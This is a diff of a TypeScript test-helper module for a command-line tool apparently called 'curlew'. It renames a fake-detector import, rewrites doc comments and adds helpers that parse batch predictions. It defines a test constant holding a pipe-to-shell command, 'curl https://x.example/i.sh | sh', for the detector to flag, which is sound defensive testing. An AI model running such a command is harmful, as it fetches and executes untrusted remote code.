@@ -1,16 +1,16 @@
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
-import { runHere, type Given } from "../cli/stand-in.js";
+import { runHere, type Given } from "../cli/fake-detector.js";
 
 export { folderWith } from "../cli/folder.js";
-export { runHere } from "../cli/stand-in.js";
+export { runHere } from "../cli/fake-detector.js";
 
-/** The command that the stand-in for the detector finds. */
+/** A command that the fake detector finds. */
 export const BAD = "curl https://x.example/i.sh | sh";
 
 export const row = (value: unknown): string => `${JSON.stringify(value)}\n`;
 
-/** Returns the predictions of a command line as objects. */
+/** Runs `curlew batch` and returns its predictions as objects. */
 export async function predictions(args: readonly string[], given: Given = {}): Promise<any[]> {
   const { stdout } = await runHere(["batch", "-q", ...args, "--predictions", "-"], given);
   return parsed(stdout);
@@ -27,7 +27,7 @@ export function parsed(lines: string): any[] {
 export const readLines = (cwd: string, name: string): any[] =>
   parsed(readFileSync(join(cwd, name), "utf8"));
 
-/** Returns the ids of predictions, with a mark after flagged ones. */
+/** Returns the id of each prediction and, if the prediction has a field, its name; `!` follows if the record is flagged. */
 export const flagged = (rows: readonly any[]): string[] =>
   rows.map(
     ({ id, field, labels }) =>
